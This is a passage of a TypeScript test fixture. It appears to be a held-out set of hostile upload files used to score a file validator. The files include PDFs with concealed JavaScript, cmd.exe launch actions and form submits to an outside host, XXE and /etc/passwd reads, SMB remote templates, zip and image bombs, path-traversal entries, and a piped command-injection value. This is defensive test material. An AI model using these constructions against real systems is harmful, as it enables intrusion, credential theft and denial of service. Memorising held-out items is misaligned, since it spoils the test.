// The held-out half of the hostile files: authors of the checks do not read it; it gives the final figures.
import { deflateSync, gzipSync } from "node:zlib";
import { big, join, joinAll, latin1, little, megabyte, utf8, utf16, zlibZeros } from "./bytes.ts";
import {
  contentTypesXml,
  documentXml,
  docx,
  docxEntries,
  docxWithTemplate,
  macroMainType,
  macroRelation,
  odt,
  odtContent,
  odtEntries,
  paragraph,
  relationsXml,
} from "./docx.ts";
import {
  docxCv,
  gifPhoto,
  type HostileFile,
  harmless,
  html,
  inCategory,
  jpegPhoto,
  laughs,
  mark,
  movVideo,
  mp4Video,
  odtCv,
  openScript,
  pdfCv,
  pdfScript,
  php,
  pngPhoto,
  refused,
  script,
  scriptAction,
  smallArchive,
  stranger,
  webmVideo,
  webpPhoto,
} from "./hostile.ts";
import { box, element, fileType, film, fullBox, webm, webmHead } from "./media.ts";
import {
  attachment,
  cvObjects,
  cvPdf,
  lockedPdf,
  openStream,
  pageContent,
  pageLink,
  someLines,
  stream,
  updatedPdf,
} from "./pdf.ts";
import {
  animatedPng,
  camera,
  exif,
  exifSegment,
  extendedWebp,
  gif,
  gifComment,
  heif,
  jpeg,
  jpegSegment,
  losslessChunk,
  png,
  pngChunk,
  tiff,
  webpChunk,
} from "./pictures.ts";
import {
  linuxProgram,
  macProgram,
  oleContainer,
  packedProgram,
  richText,
  windowsProgram,
  windowsShortcut,
} from "./programs.ts";
import { end64Record, endRecord, overlappingZip, zerosEntry, zip, zipHalves } from "./zip.ts";

/** Writes every letter of a PDF name as a hexadecimal escape. */
const escapedName = (name: string) =>
  `/${[...name].map((letter) => `#${letter.charCodeAt(0).toString(16).toUpperCase()}`).join("")}`;

function ascii85(bytes: Uint8Array): Uint8Array {
  let text = "";
  for (let at = 0; at < bytes.length; at += 4) {
    const part = bytes.subarray(at, at + 4);
    let value = Buffer.concat([part, new Uint8Array(4 - part.length)]).readUInt32BE();
    const letters: string[] = [];
    for (let i = 0; i < 5; i++) {
      letters.unshift(String.fromCharCode(33 + (value % 85)));
      value = Math.floor(value / 85);
    }
    text +=
      value === 0 && letters.join("") === "!!!!!" && part.length === 4
        ? "z"
        : letters.join("").slice(0, part.length + 1);
  }
  return latin1(`${text}~>`);
}

/** PNG's "Up" predictor over rows of eight bytes: it hides every word. */
function predicted(bytes: Uint8Array): Uint8Array {
  const rows: Uint8Array[] = [];
  let above = new Uint8Array(8);
  for (let at = 0; at < bytes.length; at += 8) {
    const row = new Uint8Array(8);
    row.set(bytes.subarray(at, at + 8));
    rows.push(
      Uint8Array.of(2),
      row.map((byte, i) => byte - above[i]!),
    );
    above = row;
  }
  return join(...rows);
}

const polyglots = inCategory("polyglot", [
  {
    ...pdfCv,
    name: "PDF nine hundred bytes into a page",
    bytes: () => join(`\n<html><body><script>${script}</script><!--${" ".repeat(820)}`, cvPdf()),
    expected: refused,
    why: "The head of a PDF may stand late for readers; a browser sees the page first.",
  },
  {
    ...pdfCv,
    name: "PDF with a page of HTML behind its end",
    bytes: () => join(cvPdf(), html),
    expected: harmless,
    why: "Careless programs append such pages to good files too; served as a PDF it stays one.",
  },
  {
    ...gifPhoto,
    name: "GIF with a script in its comment",
    bytes: () => gif({ version: "87a", before: gifComment(`*/=1;${script}/*<script>${script}</script>`) }),
    expected: harmless,
    why: "A whole GIF; its comment runs where the file is taken for something else.",
    absent: [mark, "<script"],
  },
  {
    ...jpegPhoto,
    name: "JPEG with a ZIP inside its comment",
    kind: "offerImage",
    bytes: () =>
      jpeg({ segments: jpegSegment(0xfe, zip([{ name: "META-INF/MANIFEST.MF", content: mark, packing: 0 }])) }),
    expected: harmless,
    why: "An archive between the first bytes and the pixels, found by readers that look for its end.",
    absent: ["PK\x03\x04", "PK\x05\x06", mark],
  },
  {
    ...pdfCv,
    name: "PDF that holds a ZIP and ends in its directory",
    bytes: () => {
      const entries = [{ name: "index.html", content: html }];
      const before = cvPdf({ objects: { 10: openStream(zipHalves(entries).body) } });
      const place = Buffer.from(before).indexOf("PK\x03\x04");
      return join(before, "%", zipHalves(entries, { before: before.subarray(0, place) }).directory);
    },
    expected: refused,
    why: "Whole in both languages: the archive's content is an unused object, its directory a comment.",
  },
  {
    ...pngPhoto,
    name: "PNG with a page in its palette",
    bytes: () => {
      const palette = `<script>${script}</script>${php}`;
      const padded = palette.padEnd(Math.ceil(palette.length / 3) * 3);
      const packed = deflateSync(join(...Array<string>(32).fill(`\0${"\x01".repeat(32)}`)));
      return png({ width: 32, height: 32, colour: 3, packed, before: pngChunk("PLTE", padded) });
    },
    expected: harmless,
    why: "Text as colours survives who only drops the chunks beside the pixels.",
    absent: ["<script", "<?php", mark],
  },
  {
    ...jpegPhoto,
    name: "JPEG that begins as a page",
    bytes: () => jpeg({ segments: jpegSegment(0xe0, `<!--JFIF--><html><script>${script}</script></html>`) }),
    expected: harmless,
    why: "The page stands in the first segment, within what browsers look at to guess a type.",
    absent: ["<script", mark],
  },
]);

const metadata = inCategory("picture metadata", [
  {
    ...webpPhoto,
    name: "WebP with EXIF position and XMP",
    bytes: () =>
      extendedWebp(
        { width: 64, height: 64 },
        12,
        losslessChunk(64, 64),
        webpChunk("EXIF", exif()),
        webpChunk("XMP ", "<x:xmpmeta><exif:GPSLatitude>48,51.49N</exif:GPSLatitude></x:xmpmeta>"),
      ),
    expected: harmless,
    why: "The position stands in chunks of their own.",
    absent: [camera, "xmpmeta", "GPSLatitude"],
  },
  {
    ...pngPhoto,
    name: "PNG with EXIF",
    kind: "logo",
    bytes: () => png({ before: pngChunk("eXIf", exif()), after: pngChunk("tEXt", `Author\0${mark}`) }),
    expected: harmless,
    why: "PNG holds a position too, and text may stand behind the pixels.",
    absent: [camera, mark],
  },
  {
    ...jpegPhoto,
    name: "JPEG with a preview and IPTC",
    bytes: () => {
      const preview = join("JFXX\0\x10", jpeg({ segments: jpegSegment(0xfe, "uncropped") }));
      const iptc = join("Photoshop 3.0\x008BIM\x04\x04\0\0", big.u32(16), "\x1c\x02\x5a", big.u16(11), "Croix-Rouss");
      return jpeg({ segments: join(jpegSegment(0xe0, preview), jpegSegment(0xed, iptc), exifSegment()) });
    },
    expected: harmless,
    why: "The preview shows the picture before it was cut, IPTC names the district.",
    absent: ["JFXX", "uncropped", "8BIM", "Croix-Rouss", camera],
  },
]);

const scripts = inCategory("pdf script", [
  {
    ...pdfCv,
    name: "PDF script after a harmless link",
    bytes: () =>
      cvPdf({
        page: "/Annots[10 0 R]",
        objects: {
          10: pageLink("11 0 R"),
          11: "<</S/URI/URI(https://example.org/)/Next[12 0 R]>>",
          12: scriptAction,
        },
        pack: { numbers: [10, 12] },
      }),
    expected: refused,
    why: "Actions form chains; only the first one is harmless.",
  },
  {
    ...pdfCv,
    name: "PDF script in a names tree of two levels, escaped and packed",
    bytes: () =>
      cvPdf({
        catalogue: "/Names 10 0 R",
        objects: {
          10: `<<${escapedName("JavaScript")} 11 0 R>>`,
          11: "<</Kids[12 0 R]>>",
          12: "<</Limits[(a)(a)]/Names[(a)13 0 R]>>",
          13: `<</S${escapedName("JavaScript")}${escapedName("JS")}(${pdfScript})>>`,
        },
        pack: {
          dictionary: "/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>",
          encode: (bytes) => deflateSync(predicted(bytes)),
        },
      }),
    expected: refused,
    why: "Escaped names behind a predictor: unpacked alone, the stream still shows nothing.",
  },
  {
    ...pdfCv,
    name: "PDF script added by an update",
    bytes: () =>
      updatedPdf(cvPdf(), {
        1: "<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R>>",
        10: `<</Type/Action/S/JavaScript/JS<${Buffer.from(openScript).toString("hex")}>>>`,
      }),
    expected: refused,
    why: "The catalogue of the first version is good; the one that counts comes last.",
  },
  {
    ...pdfCv,
    name: "PDF script in an object stream of two packings",
    bytes: () =>
      cvPdf({
        catalogue: "/OpenAction 10 0 R",
        objects: { 10: scriptAction },
        pack: {
          dictionary: "/Filter[/A85/Fl]",
          encode: (bytes) => ascii85(deflateSync(bytes)),
        },
      }),
    expected: refused,
    why: "Packed, then written as text, under the short names of the packings.",
  },
  {
    ...pdfCv,
    name: "PDF script with comments between its words",
    bytes: () =>
      cvPdf({
        catalogue: `/OpenAction%a\n<<%b\n/S%/URI\r${escapedName("JavaScript")}%c\n${escapedName("JS")}%${"d".repeat(5000)}\n(${pdfScript})>>`,
      }),
    expected: refused,
    why: "Comments may stand between any two words, as long as one likes.",
  },
  {
    ...pdfCv,
    name: "PDF script when it is closed",
    kind: "kbis",
    fileName: "kbis.pdf",
    bytes: () =>
      cvPdf({
        catalogue: "/AA 10 0 R",
        objects: { 10: "<</WC 11 0 R>>", 11: "<</S/JavaScript/JS 12 0 R>>", 12: stream(openScript) },
        pack: {},
      }),
    expected: refused,
    why: "Reading it does nothing; closing it does.",
  },
  {
    ...pdfCv,
    name: "PDF script in a stream whose packing stands elsewhere",
    bytes: () =>
      cvPdf({
        catalogue: "/OpenAction 10 0 R",
        objects: { 10: scriptAction, 20: "/FlateDecode" },
        pack: { numbers: [1, 10], dictionary: "/Filter 20 0 R" },
      }),
    expected: refused,
    why: "The dictionary of the object stream names no packing: it refers to one.",
  },
  {
    ...pdfCv,
    name: "PDF script in a drawing that plays",
    bytes: () =>
      cvPdf({
        page: "/Annots[10 0 R]",
        objects: {
          10: "<</Type/Annot/Subtype/Screen/Rect[0 0 595 842]/AA<</PV 11 0 R>>>>",
          11: `<</S/Rendition/OP 4/JS(${pdfScript})>>`,
        },
      }),
    expected: refused,
    why: "An action of another kind may carry a script as well.",
  },
  {
    ...pdfCv,
    name: "PDF with a link that is a script",
    bytes: () =>
      cvPdf({
        page: "/Annots[10 0 R]",
        objects: {
          10: pageLink(`<</S/URI/URI(javascript:alert\\('${mark}'\\))>>`),
        },
      }),
    expected: harmless,
    why: "Readers do not run it; a viewer in our page must not make a link of it.",
  },
]);

const actions = inCategory("pdf action", [
  {
    ...pdfCv,
    name: "PDF that launches a program with words of its own",
    bytes: () =>
      cvPdf({
        page: "/Annots[10 0 R]",
        objects: {
          10: pageLink("11 0 R"),
          11: `<</S/L#61unch/Win<</F(cmd.exe)/P(/k echo ${mark})>>>>`,
        },
        pack: {},
      }),
    expected: refused,
    why: "The program and its words stand in a dictionary for Windows, packed.",
  },
  {
    ...pdfCv,
    name: "PDF with a button that sends it away",
    bytes: () =>
      cvPdf({
        catalogue: "/AcroForm<</Fields[10 0 R]>>",
        page: "/Annots[10 0 R]",
        objects: {
          10: "<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(a)/Rect[0 0 595 842]/AA<</PO 11 0 R>>>>",
          11: `<</S/Submit#46orm/F<</FS/URL/F(https://${stranger}/a)>>/Flags 256>>`,
        },
        pack: {},
      }),
    expected: refused,
    why: "Sends the whole file when its page is shown.",
  },
  {
    ...pdfCv,
    name: "PDF that takes data by a chain of actions",
    bytes: () =>
      cvPdf({
        catalogue: "/OpenAction 10 0 R",
        objects: {
          10: "<</S/GoTo/D[3 0 R/Fit]/Next 11 0 R>>",
          11: "<</S/ImportData/F<</F(/etc/passwd)>>>>",
        },
      }),
    expected: refused,
    why: "The first action goes to the page, as in every document; the second reads a file.",
  },
  {
    ...pdfCv,
    name: "PDF that goes into a file on a share",
    bytes: () =>
      cvPdf({
        catalogue: "/OpenAction 10 0 R",
        objects: {
          10: `<</S/GoToE/T<</R/C/N(a)>>/F<</F<${Buffer.from(`\\\\${stranger}\\share\\a.pdf`).toString("hex")}>>>/NewWindow true>>`,
        },
      }),
    expected: refused,
    why: "The same as a file on a share, by the action for embedded ones and with its name in hexadecimal.",
  },
  {
    ...pdfCv,
    name: "PDF with a three-dimensional model that starts by itself",
    bytes: () =>
      cvPdf({
        page: "/Annots[10 0 R]",
        objects: {
          10: "<</Type/Annot/Subtype/3D/Rect[0 0 595 842]/3DD 11 0 R/3DA<</A/PO>>>>",
          11: openStream("U3D\0", "/Type/3D/Subtype/U3D/OnInstantiate 12 0 R"),
          12: stream(`host.app.alert("${mark}")`),
        },
      }),
    expected: refused,
    why: "A model brings a script that runs when the page is shown.",
  },
  {
    ...pdfCv,
    name: "PDF with an XFA form in parts",
    bytes: () =>
      cvPdf({
        catalogue: "/AcroForm 10 0 R/NeedsRendering true",
        objects: {
          10: "<</Fields[]/X#46A[(preamble)11 0 R(template)12 0 R(postamble)13 0 R]>>",
          11: stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'),
          12: stream(
            `<template><subform><field><event activity="docReady"><submit target="http://${stranger}/a" format="xml"/></event></field></subform></template>`,
          ),
          13: stream("</xdp:xdp>"),
        },
        pack: {},
      }),
    expected: refused,
    why: "The form is cut into streams and its name is packed.",
  },
]);

const attachments = inCategory("pdf attachment", [
  {
    ...pdfCv,
    name: "PDF with a program attached as XML",
    bytes: () => cvPdf(attachment("europass.xml", windowsProgram(), "text/xml")),
    expected: refused,
    why: "Name and type are those of a Europass CV, the content is a program.",
  },
  {
    ...pdfCv,
    name: "PDF with a ZIP pinned to its page",
    bytes: () =>
      cvPdf({
        page: "/Annots[12 0 R]",
        objects: {
          10: "<</Type/Filespec/F(portfolio.zip)/E#46<</F 11 0 R>>>>",
          11: stream(zip([{ name: "a.exe", content: windowsProgram() }])),
          12: "<</Type/Annot/Subtype/FileAttachment/Rect[72 600 90 620]/FS 10 0 R>>",
        },
        pack: {},
      }),
    expected: refused,
    why: "An attachment of a page, not of the document, whose stream does not say what it is.",
  },
]);

const structures = inCategory("pdf structure", [
  {
    ...pdfCv,
    name: "PDF under an empty password",
    bytes: () => lockedPdf("", openScript),
    expected: refused,
    why: "Opens by itself everywhere, and its script is readable to readers only.",
  },
  {
    ...pdfCv,
    name: "PDF whose pages lead in a circle",
    bytes: () =>
      cvPdf({
        objects: {
          2: "<</Type/Pages/Kids[10 0 R]/Count 2>>",
          10: "<</Type/Pages/Parent 11 0 R/Kids[11 0 R]/Count 2>>",
          11: "<</Type/Pages/Parent 10 0 R/Kids[10 0 R]/Count 2>>",
        },
      }),
    expected: refused,
    why: "The circle is longer than one step; there is no page to show.",
  },
  {
    ...pdfCv,
    name: "PDF whose versions lead in a circle",
    bytes: () => {
      const whole = Buffer.from(cvPdf({ trailer: "/Prev 0000000000" })).toString("latin1");
      const place = /startxref\n(\d+)/.exec(whole)![1]!;
      return latin1(whole.replace("/Prev 0000000000", `/Prev ${place.padStart(10, "0")}`));
    },
    expected: harmless,
    why: "The table says that its previous version is itself.",
  },
  {
    ...pdfCv,
    name: "PDF nested two million deep",
    bytes: () =>
      cvPdf({ objects: { 10: `${"[".repeat(2_000_000)}${"]".repeat(2_000_000)}` }, page: "/Metadata 10 0 R" }),
    expected: harmless,
    why: "A reader that calls itself at each depth falls over; it must fall alone.",
  },
  {
    ...pdfCv,
    name: "PDF of 20,000 pages of the same content",
    kind: "offerFile",
    fileName: "offre.pdf",
    bytes: () => {
      const page = cvObjects()[3]!;
      const numbers = Array.from({ length: 20_000 }, (_, i) => 10 + i);
      return cvPdf({
        objects: {
          2: `<</Type/Pages/Kids[${numbers.map((number) => `${number} 0 R`).join(" ")}]/Count ${numbers.length}>>`,
          ...Object.fromEntries(numbers.map((number) => [number, page])),
        },
        pack: {},
      });
    },
    expected: harmless,
    why: "Drawing or reading all pages takes minutes; the first ones must do.",
  },
  {
    ...pdfCv,
    name: "PDF whose page lies in sixteen streams of 64 MB",
    bytes: () => {
      const bytes = deflateSync(zlibZeros(64 * megabyte), { level: 9 });
      const numbers = Array.from({ length: 16 }, (_, i) => 30 + i);
      const bombs = numbers.map((number) => [number, { dictionary: "/Filter[/Fl/Fl]", bytes }]);
      const contents = numbers.map((number) => `${number} 0 R`).join(" ");
      const page = String(cvObjects()[3]).replace("/Contents 4 0 R", `/Contents[4 0 R ${contents}]`);
      return cvPdf({ objects: { 3: page, ...Object.fromEntries(bombs) } });
    },
    expected: refused,
    why: "Each is small enough, packed twice; all together are a gigabyte.",
  },
  {
    ...pdfCv,
    name: "PDF with a picture of 60,000 by 60,000",
    bytes: () =>
      cvPdf({
        objects: {
          3: "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</I 10 0 R>>>>/Contents 4 0 R>>",
          4: stream("595 0 0 842 0 0 cm /I Do"),
          10: {
            dictionary:
              "/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode",
            bytes: zlibZeros(3600 * 1_000_000),
          },
        },
      }),
    expected: refused,
    why: "A program that draws the page makes room for 3.6 GB.",
  },
  {
    ...pdfCv,
    name: "PDF of a head and an end",
    bytes: () => latin1("%PDF-1.7\n%\xe2\xe3\xcf\xd3\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"),
    expected: refused,
    why: "Begins and ends as it should, with nothing between.",
  },
  {
    ...pdfCv,
    name: "PDF without its last third",
    bytes: () => {
      const lines = Array.from({ length: 300 }, (_, i) => `${someLines[0]} ${(i * 7919) % 10007}`);
      const whole = cvPdf({ objects: { 4: openStream(pageContent(lines)) }, pack: { numbers: [1, 2, 3] } });
      return whole.slice(0, Math.floor((whole.length * 2) / 3));
    },
    expected: refused,
    why: "The content is there, the pages and the catalogue are not.",
  },
]);

const sizes = inCategory("picture size", [
  {
    ...pngPhoto,
    name: "interlaced PNG of two million by two million",
    bytes: () => png({ width: 2_000_000, height: 2_000_000, depth: 1, interlaced: true, packed: zlibZeros(64) }),
    expected: refused,
    why: "The product of its sides does not fit into 32 bits.",
  },
  {
    ...pngPhoto,
    name: "small PNG whose rows unpack to 1 GB",
    bytes: () => png({ width: 64, height: 64, packed: zlibZeros(1024 * megabyte) }),
    expected: harmless,
    why: "What stands behind the last row must not be unpacked.",
  },
  {
    ...pngPhoto,
    name: "PNG with a colour profile and a text of 1 GB",
    bytes: () =>
      png({
        before: join(
          pngChunk("iCCP", join("a\0\0", zlibZeros(512 * megabyte))),
          pngChunk("zTXt", join("Comment\0\0", zlibZeros(512 * megabyte))),
        ),
      }),
    expected: harmless,
    why: "What is packed beside the pixels is a bomb as well.",
    absent: ["zTXt"],
  },
  {
    ...pngPhoto,
    name: "animated PNG of 4,000 frames",
    kind: "offerImage",
    bytes: () =>
      animatedPng({
        frames: 4_000,
        width: 1000,
        height: 1000,
        packed: zlibZeros(1001 * 1000),
      }),
    expected: harmless,
    why: "Four billion pixels in frames; only the first one counts.",
    absent: ["acTL", "fdAT"],
  },
  {
    ...jpegPhoto,
    name: "progressive JPEG of 65,000 by 64,000 without a scan",
    bytes: () => jpeg({ said: { width: 65_000, height: 64_000 }, frame: 0xc2, bare: true, segments: exifSegment() }),
    expected: refused,
    why: "A progressive decoder keeps all coefficients of the picture in memory.",
  },
  {
    ...gifPhoto,
    name: "GIF of a small screen and a huge frame",
    bytes: () => gif({ width: 8, height: 8, frame: { width: 65_535, height: 65_535 }, indices: 100 }),
    expected: harmless,
    why: "The screen says 64 pixels, its frame four billion; who accepts it may keep the screen alone.",
  },
  {
    ...webpPhoto,
    name: "animated WebP with a canvas of 60,000 by 60,000",
    bytes: () => {
      const place = join(new Uint8Array(6), little.u24(7), little.u24(7), little.u24(100), "\0");
      const frame = webpChunk("ANMF", join(place, losslessChunk(8, 8)));
      return extendedWebp({ width: 60_000, height: 60_000 }, 2, webpChunk("ANIM", new Uint8Array(6)), frame, frame);
    },
    expected: refused,
    why: "Frames of eight pixels on a canvas of gigabytes, which animations are drawn upon.",
  },
  {
    fileName: "photo.avif",
    declaredType: "image/avif",
    kind: "image",
    name: "AVIF of a hundred thousand by a hundred thousand",
    bytes: () => heif("avif", 100_000, 100_000),
    expected: refused,
    why: "Ten billion pixels, said before any of them is there.",
  },
  {
    fileName: "logo.tif",
    declaredType: "image/tiff",
    kind: "logo",
    name: "TIFF of one strip of 2.5 GB",
    bytes: () => tiff(50_000, 50_000, zlibZeros(2500 * 1_000_000)),
    expected: refused,
    why: "Whole and true, in two and a half megabytes.",
  },
]);

const svgs = inCategory("svg", [
  {
    ...jpegPhoto,
    name: "SVG in UTF-16 named JPEG",
    bytes: () =>
      utf16(
        `<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg" onload='${script}' width="64" height="64"><image href="file:///etc/passwd" width="64" height="64"/></svg>`,
      ),
    expected: refused,
    why: "Drawing programs know it in any alphabet, checks of the first bytes do not.",
  },
  {
    ...pngPhoto,
    name: "compressed SVG named PNG",
    kind: "offerImage",
    bytes: () =>
      new Uint8Array(
        gzipSync(
          `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><foreignObject width="64" height="64"><body xmlns="http://www.w3.org/1999/xhtml"><script>${script}</script></body></foreignObject></svg>`,
        ),
      ),
    expected: refused,
    why: "Drawing programs unpack it by themselves.",
  },
  {
    fileName: "logo.png",
    declaredType: "image/png",
    kind: "logo",
    name: "drawing commands named PNG",
    bytes: () =>
      latin1(
        `push graphic-context\nviewbox 0 0 64 64\nfill 'url(https://${stranger}/a.png"|echo "${mark})'\npop graphic-context\n`,
      ),
    expected: refused,
    why: "One drawing program takes such texts by their content and runs what they say.",
  },
]);

const archives = inCategory("archive", [
  {
    ...odtCv,
    name: "ODT with a text of 1 GB",
    bytes: () => odt({ parts: [zerosEntry("content.xml", 1024 * megabyte)] }),
    expected: refused,
    why: "The very part that every reader unpacks.",
  },
  {
    ...odtCv,
    name: "ODT with ZIPs in ZIPs in ZIPs",
    bytes: () => {
      let inner: Uint8Array = zip([zerosEntry("0", 256 * megabyte)]);
      for (let level = 0; level < 4; level++) {
        const content = inner;
        inner = zip(Array.from({ length: 8 }, (_, i) => ({ name: `${i}.zip`, content })));
      }
      return odt({ manifest: ["Pictures/1.zip application/zip"], parts: [{ name: "Pictures/1.zip", content: inner }] });
    },
    expected: refused,
    why: "Eight of eight of eight: a terabyte for who unpacks to the end.",
  },
  {
    ...odtCv,
    name: "ODT of 66,000 folders",
    bytes: () => {
      const parts = Array.from({ length: 66_000 }, (_, i) => ({ name: `P/${i.toString(36)}/`, packing: 0 }));
      return odt({ parts });
    },
    expected: refused,
    why: "More than the end record can count: it says 65,535.",
  },
  {
    ...docxCv,
    name: "DOCX whose parts quote one another",
    bytes: () =>
      overlappingZip(
        docxEntries(),
        Array.from({ length: 100 }, (_, i) => `word/media/image${i}.png`),
        16 * megabyte,
      ),
    expected: refused,
    why: "Each part holds the head of the next as its text: all headers are true, and all end in the same bytes.",
  },
  {
    ...docxCv,
    name: "DOCX whose two headers differ",
    bytes: () => {
      const bomb = zerosEntry("word/document.xml", 300 * megabyte);
      const { packed, size, crc } = bomb;
      const content = documentXml(paragraph("Zoe Martin"));
      const said = { packing: 0, content, packed, packedSize: packed!.length };
      return docx({ parts: [{ name: "word/document.xml", ...said, local: { packing: 8, size, crc } }] });
    },
    expected: refused,
    why: "The directory says that it is stored and small, the head before it that it unpacks to 300 MB.",
  },
  {
    ...docxCv,
    name: "DOCX with two directories, one for large archives",
    bytes: () => {
      const honest = docxEntries();
      const other = docxEntries({
        mainType: macroMainType,
        parts: [{ name: "word/vbaProject.bin", content: mark }],
      });
      const first = zipHalves(honest);
      const second = zipHalves(other, { before: first.body });
      const hidden = second.directory.subarray(0, second.directory.length - 22);
      const shown = first.directory.subarray(0, first.directory.length - 22);
      const shownAt = first.body.length + second.body.length;
      const hiddenAt = shownAt + shown.length;
      const at = hiddenAt + hidden.length;
      const large = end64Record({ count: other.length, size: hidden.length, place: hiddenAt }, at);
      const small = endRecord({ count: honest.length, size: shown.length, place: shownAt });
      return join(first.body, second.body, shown, hidden, large, small);
    },
    expected: refused,
    why: "The small end record leads to a clean document, the large one to a document with macros.",
  },
  {
    ...docxCv,
    name: "DOCX with a second end in its comment",
    bytes: () => {
      const honest = docxEntries();
      const { body, directory } = zipHalves(docxEntries({ parts: [{ name: "word/vbaProject.bin", content: mark }] }));
      const inner = zipHalves(honest, { before: join(body, directory) });
      // The first end record declares the clean archive as its comment.
      const outer = directory.slice();
      const comment = inner.body.length + inner.directory.length;
      outer.set(little.u16(comment), outer.length - 2);
      return join(body, outer, inner.body, inner.directory);
    },
    expected: refused,
    why: "Read from the end it is clean; read from the first end record it has a macro, and the rest is a comment.",
  },
  {
    ...docxCv,
    name: "DOCX with parts at Windows paths",
    bytes: () =>
      docx({
        parts: [
          { name: "word\\..\\..\\..\\Startup\\a.bat", content: `echo ${mark}` },
          { name: "C:/Windows/Temp/a.bat", content: `echo ${mark}` },
        ],
      }),
    expected: refused,
    why: "Backslashes and drives lead out of the folder on Windows.",
  },
  {
    ...docxCv,
    name: "DOCX under a modern password",
    bytes: () => {
      const aes = join(little.u16(0x9901), little.u16(7), little.u16(2), "AE\x03", little.u16(8));
      const locked = { packed: new Uint8Array(300).fill(0x5b), packing: 99, flags: 1, size: 900, crc: 0, extra: aes };
      return docx({ parts: [{ name: "word/document.xml", ...locked }] });
    },
    expected: refused,
    why: "The method 99 says that the true one stands in an extra field, locked.",
  },
  {
    ...odtCv,
    name: "ODT with a symbolic link for a text",
    bytes: () =>
      odt({ parts: [{ name: "styles.xml", content: "../../../../etc/passwd", packing: 0, mode: 0o120755 }] }),
    expected: refused,
    why: "Unpacked into a folder, the styles are a file of the machine.",
  },
  {
    ...docxCv,
    name: "DOCX with two lists of its types in other letters",
    bytes: () => {
      return zip([{ name: "[content_types].XML", content: contentTypesXml(macroMainType) }, ...docxEntries()]);
    },
    expected: refused,
    why: "Word takes names of parts without regard to capitals: which list counts is a matter of luck.",
  },
  {
    ...docxCv,
    name: "DOCX behind a program",
    bytes: () => docx({}, { before: windowsProgram() }),
    expected: refused,
    why: "Archives are read from their end: before it, anything may stand.",
  },
]);

const documents = inCategory("document", [
  {
    ...docxCv,
    name: "DOCX with an entity in UTF-16",
    bytes: () => {
      const doctype = `<!DOCTYPE w:document [<!ENTITY % a SYSTEM "http://${stranger}/a.dtd"> %a;]>`;
      const xml = documentXml(paragraph("Zoe Martin"), doctype).replace("UTF-8", "UTF-16");
      return docx({ parts: [{ name: "word/document.xml", content: utf16(xml) }] });
    },
    expected: refused,
    why: "XML may stand in other alphabets, in which no search for ASCII finds the declaration.",
  },
  {
    ...docxCv,
    name: "DOCX of a billion laughs in its properties",
    bytes: () => {
      const xml = `<?xml version="1.0"?>\n<!-- -->\n<!DOCTYPE p [${laughs(12, 8)}]><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"><cp:keywords>&l12;</cp:keywords></cp:coreProperties>`;
      return docx({ parts: [{ name: "docProps/core.xml", content: xml }] });
    },
    expected: refused,
    why: "Not in the text, but in a part that many programs read first.",
  },
  {
    ...odtCv,
    name: "ODT with an entity for its styles",
    bytes: () =>
      odt({
        parts: [
          {
            name: "styles.xml",
            content:
              '<?xml version="1.0"?><!DOCTYPE office:document-styles SYSTEM "file:///etc/passwd"><office:document-styles/>',
          },
        ],
      }),
    expected: refused,
    why: "The whole declaration lies outside of the file.",
  },
  {
    ...docxCv,
    name: "DOCX with macros under another name",
    bytes: () =>
      docx({
        types: '<Override PartName="/word/theme.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        relations: [{ type: macroRelation, target: "theme.bin" }],
        parts: [
          { name: "word/theme.bin", content: oleContainer([{ name: "dir", content: latin1(`Sub AutoOpen ${mark}`) }]) },
        ],
      }),
    expected: refused,
    why: "Relation and type make it a macro, not its name.",
  },
  {
    ...docxCv,
    name: "DOTM named DOCX",
    bytes: () =>
      docx({
        mainType: "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        types: '<Default Extension="vba" ContentType="application/vnd.ms-office.vbaProject"/>',
        relations: [{ type: macroRelation, target: "m/a.vba" }],
        parts: [{ name: "word/m/a.vba", content: oleContainer([{ name: "VBA", content: latin1(mark) }]) }],
      }),
    expected: refused,
    why: "A template with macros, which lie in a folder of their own.",
  },
  {
    ...docxCv,
    name: "DOCX with a template on a share",
    bytes: () =>
      docxWithTemplate(
        relationsXml([
          { type: "attachedTemplate", target: `file:///\\\\${stranger}\\share\\a.dotm`, external: true },
        ]).replaceAll('"', "'"),
      ),
    expected: refused,
    why: "Written as a file, but on a stranger's machine: Windows offers the reader's password to it.",
  },
  {
    ...docxCv,
    name: "DOCX with a template in UTF-16 and another space of names",
    bytes: () =>
      docxWithTemplate(
        utf16(
          `<?xml version="1.0" encoding="UTF-16"?><p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="https://${stranger}/a.dotm" TargetMode="External"/></p:Relationships>`,
        ),
      ),
    expected: refused,
    why: "The same relation in another alphabet, with a prefix, in the strict form of the standard.",
  },
  {
    ...docxCv,
    name: "DOCX with a document from a stranger",
    bytes: () =>
      docx({
        body: `${paragraph("Zoe Martin")}<w:subDoc r:id="rId1"/>`,
        relations: [{ type: "subDocument", target: `http://${stranger}/a.docx`, external: true }],
      }),
    expected: refused,
    why: "A document within the document, fetched when it is opened.",
  },
  {
    ...docxCv,
    name: "DOCX with an OLE object named as a picture",
    bytes: () =>
      docx({
        body: `<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Content" ObjectID="_1" r:id="rId1"/></w:object></w:r></w:p>`,
        types: '<Default Extension="emf" ContentType="image/x-emf"/>',
        relations: [{ type: "oleObject", target: "media/image7.emf" }],
        parts: [
          {
            name: "word/media/image7.emf",
            content: packedProgram(),
          },
        ],
      }),
    expected: refused,
    why: "The relation makes it an object; folder and ending are those of a picture.",
  },
  {
    ...docxCv,
    name: "DOCX with an object linked from a stranger",
    bytes: () =>
      docx({
